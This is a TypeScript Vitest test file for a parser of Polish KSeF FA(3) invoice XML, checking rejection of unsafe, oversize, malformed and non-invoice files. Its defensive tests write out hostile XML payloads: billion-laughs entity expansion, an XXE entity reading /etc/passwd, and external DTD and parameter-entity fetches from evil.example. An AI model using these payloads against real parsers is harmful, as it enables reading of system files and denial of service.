import { describe, expect, it } from 'vitest';
import { FA3_NAMESPACE, MAX_INVOICE_BYTES, MAX_XML_DEPTH } from '../../lib/invoice/xml';
import { INVOICE_ERROR_CODES, InvoiceError, isInvoiceError } from '../../lib/invoice/errors';
import { parseInvoice } from '../../lib/invoice/parse';
import { fixtureText } from './fixtures';

const sample = fixtureText('ksef/sample-fa3-invoice-pdfgen.xml');
const body = sample.replace(/^<\?xml[^>]*\?>\s*/, '');

const MESSAGES = {
  DOCTYPE_FORBIDDEN: [
    'Ten plik zawiera deklaracje DOCTYPE lub ENTITY, których faktury KSeF nigdy nie mają, więc ze względów bezpieczeństwa nie zostanie wyświetlony. Otwórz fakturę pobraną bezpośrednio z KSeF.',
    'This file contains DOCTYPE or ENTITY declarations, which KSeF invoices never have, so for your safety it will not be shown. Open the invoice as downloaded from KSeF.',
  ],
  NOT_XML: [
    'Nie można odczytać faktury: plik nie jest poprawnym dokumentem XML w kodowaniu UTF-8. Pobierz fakturę ponownie z KSeF; jeśli błąd się powtarza, poproś wystawcę o sprawdzenie pliku.',
    'The invoice cannot be read: the file is not a valid XML document in UTF-8. Download the invoice from KSeF again; if this keeps happening, ask the issuer to check the file.',
  ],
  NOT_FA: [
    'To nie jest faktura ustrukturyzowana FA(3) ani FA(2). Otwórz plik XML faktury pobrany z KSeF.',
    'This is not an FA(3) or FA(2) structured invoice. Open the invoice XML file downloaded from KSeF.',
  ],
  TOO_DEEP: [
    `Plik ma zbyt głęboko zagnieżdżone elementy XML (więcej niż ${MAX_XML_DEPTH} poziomów), więc nie jest fakturą KSeF. Otwórz fakturę pobraną z KSeF.`,
    `The file nests XML elements too deeply (more than ${MAX_XML_DEPTH} levels), so it is not a KSeF invoice. Open the invoice as downloaded from KSeF.`,
  ],
} as const;

function rejection(input: string | Uint8Array): unknown {
  try {
    parseInvoice(input);
  } catch (err) {
    return err;
  }
  throw new Error('parseInvoice accepted the input');
}

function expectRejected(input: string | Uint8Array, code: keyof typeof MESSAGES): void {
  const err = rejection(input);
  expect(isInvoiceError(err)).toBe(true);
  expect(err).toMatchObject({ name: 'InvoiceError', code, message: MESSAGES[code][0], messageEn: MESSAGES[code][1] });
  expect((err as { messageIn(lang: string): string }).messageIn('en')).toBe(MESSAGES[code][1]);
}

const utf8 = (text: string) => new TextEncoder().encode(text);

describe('DOCTYPE and entities are refused before parsing', () => {
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
${body.replace('<P_2>FA/YUCFO-4342344706/03/2026</P_2>', '<P_2>&lol9;</P_2>')}`;
  const externalEntity = `<?xml version="1.0"?>
<!DOCTYPE Faktura [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
${body.replace('<P_2>FA/YUCFO-4342344706/03/2026</P_2>', '<P_2>&xxe;</P_2>')}`;
  const parameterEntity = `<!DOCTYPE Faktura [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]>${body}`;
  const externalDtd = `<!DOCTYPE Faktura SYSTEM "http://evil.example/faktura.dtd">${body}`;

  it.each([
    ['billion laughs', billionLaughs],
    ['an external entity (XXE)', externalEntity],
    ['a parameter entity', parameterEntity],
    ['an external DTD', externalDtd],
    ['a lower-case doctype', `<!doctype Faktura>${body}`],
    ['an ENTITY without DOCTYPE', `<!ENTITY x "y">${body}`],
    ['a DOCTYPE after a byte order mark', `\uFEFF<!DOCTYPE Faktura>${body}`],
    ['a DOCTYPE inside the document', body.replace('<Fa>', '<Fa><!DOCTYPE x>')],
  ])('as text: %s', (_, xml) => expectRejected(xml, 'DOCTYPE_FORBIDDEN'));

  it('as UTF-8 bytes', () => expectRejected(utf8(externalEntity), 'DOCTYPE_FORBIDDEN'));

  it('as UTF-16 bytes with a byte order mark', () => {
    const text = `\uFEFF${billionLaughs}`;
    const bytes = new Uint8Array(text.length * 2);
    for (let i = 0; i < text.length; i++) (bytes[2 * i] = text.charCodeAt(i) & 0xff), (bytes[2 * i + 1] = text.charCodeAt(i) >> 8);
    expectRejected(bytes, 'DOCTYPE_FORBIDDEN');
  });

  it('reads escaped DOCTYPE- and entity-looking text as plain text', () => {
    const xml = sample.replace('<P_1M>Czarnków</P_1M>', '<P_1M>&lt;!DOCTYPE x [&lt;!ENTITY a "b">]> &amp;a;</P_1M>');
    expect(parseInvoice(xml).place).toBe('<!DOCTYPE x [<!ENTITY a "b">]> &a;');
  });
});

describe('size and depth limits', () => {
  const limitMessage = (size: number) => [
    `Plik faktury jest za duży (${size} bajtów, najwyżej ${MAX_INVOICE_BYTES}). Faktury w KSeF mają do 1 MB; sprawdź, czy to właściwy plik.`,
    `The invoice file is too large (${size} bytes, at most ${MAX_INVOICE_BYTES}). KSeF invoices are at most 1 MB; check that this is the right file.`,
  ];

  it.each([
    ['bytes', new Uint8Array(MAX_INVOICE_BYTES + 1), MAX_INVOICE_BYTES + 1],
    // 1.6 million characters but 3.2 million bytes in UTF-8: the limit is on bytes.
    ['text counted in UTF-8 bytes', `${sample}<!--${'ż'.repeat(1_600_000)}-->`, utf8(sample).length + 7 + 3_200_000],
  ])('refuses %s over the limit with TOO_LARGE', (_, input, size) => {
    const err = rejection(input);
    const [pl, en] = limitMessage(size);
    expect(err).toMatchObject({ name: 'InvoiceError', code: 'TOO_LARGE', data: { size, max: MAX_INVOICE_BYTES }, message: pl, messageEn: en });
  });

  it('accepts an invoice of exactly the limit', () => {
    const padding = MAX_INVOICE_BYTES - utf8(sample).length - '\n<!---->'.length;
    const xml = `${sample}\n<!--${'x'.repeat(padding)}-->`;
    expect(utf8(xml).length).toBe(MAX_INVOICE_BYTES);
    expect(parseInvoice(xml).number).toBe('FA/YUCFO-4342344706/03/2026');
  });

  const nested = (depth: number) =>
    `<Faktura xmlns="${FA3_NAMESPACE}">${'<x>'.repeat(depth - 1)}${'</x>'.repeat(depth - 1)}</Faktura>`;

  it('refuses deep nesting with TOO_DEEP', () => {
    expectRejected(nested(MAX_XML_DEPTH + 1), 'TOO_DEEP');
    expectRejected(nested(100_000), 'TOO_DEEP');
  });

  it('refuses deep nesting inside a real invoice', () => {
    expectRejected(sample.replace('<P_7>', `<P_7>${'<b>'.repeat(50)}${'</b>'.repeat(50)}`), 'TOO_DEEP');
  });

  it(`accepts ${MAX_XML_DEPTH} levels (and then finds no parties)`, () => {
    expect(rejection(nested(MAX_XML_DEPTH))).toMatchObject({ code: 'MISSING_ELEMENT', data: { element: 'Podmiot1' } });
  });
});

describe('files that are not XML or not FA', () => {
  it.each([
    ['empty text', ''],
    ['only whitespace', '  \n\t '],
    ['plain text', 'to nie jest XML'],
    ['JSON', '{"faktura": 1}'],
    ['mismatched tags', '<Faktura><a></b></Faktura>'],
    ['a truncated invoice', sample.slice(0, 2000)],
    ['an undefined entity', sample.replace('Czarnków', 'Czarnk&oacute;w')],
    ['a duplicated attribute', sample.replace('<KodFormularza ', '<KodFormularza a="1" a="2" ')],
    ['two roots', `${body}<Faktura/>`],
    ['an undeclared prefix', sample.replace('<P_1M>', '<p:P_1M>').replace('</P_1M>', '</p:P_1M>')],
  ])('%s → NOT_XML', (_, xml) => expectRejected(xml, 'NOT_XML'));

  it('invalid UTF-8 bytes → NOT_XML', () => {
    const bytes = utf8(sample);
    const broken = new Uint8Array([...bytes.slice(0, 500), 0xc3, 0x28, ...bytes.slice(500)]);
    expectRejected(broken, 'NOT_XML');
  });

  it('a Latin-2 file (not UTF-8) → NOT_XML', () => {
    const bytes = Uint8Array.from(sample.replace('Czarnków', 'Czarnk\u00F3w'), (c) => (c.charCodeAt(0) > 0xff ? 0x3f : c.charCodeAt(0)));
    expectRejected(bytes, 'NOT_XML');
  });

  it.each([
    ['a UPO', '<Potwierdzenie xmlns="http://upo.schematy.mf.gov.pl/KSeF/v4-3"><Naglowek/></Potwierdzenie>'],
    ['Faktura in no namespace', body.replace(` xmlns="${FA3_NAMESPACE}"`, '')],
    ['Faktura in another namespace', body.replace(FA3_NAMESPACE, 'http://crd.gov.pl/wzor/2021/11/29/11089/')],
    ['another root in the FA(3) namespace', `<Fa xmlns="${FA3_NAMESPACE}"/>`],
    ['an HTML page', '<html><body><script>alert(1)</script></body></html>'],
  ])('%s → NOT_FA', (_, xml) => expectRejected(xml, 'NOT_FA'));

  it('reads the same invoice from text, UTF-8 bytes, UTF-8 with BOM and UTF-16LE with BOM', () => {
    const expected = parseInvoice(sample);
    const withBom = `\uFEFF${sample}`;
    const utf16 = new Uint8Array(withBom.length * 2);
    for (let i = 0; i < withBom.length; i++) (utf16[2 * i] = withBom.charCodeAt(i) & 0xff), (utf16[2 * i + 1] = withBom.charCodeAt(i) >> 8);
    for (const input of [utf8(sample), utf8(withBom), withBom, utf16]) expect(parseInvoice(input)).toEqual(expected);
  });

  it.each(INVOICE_ERROR_CODES)('%s has its own message in Polish and English, placeholders filled', (code) => {
    const err = new InvoiceError(code, { size: 5, max: 4, element: 'Fa/P_2' });
    expect(err.message).not.toMatch(/[{}]|invoice_error/);
    expect(err.messageEn).not.toMatch(/[{}]|invoice_error/);
    expect(err.message).not.toBe(err.messageEn);
    expect(err.messageIn('pl')).toBe(err.message);
  });
});
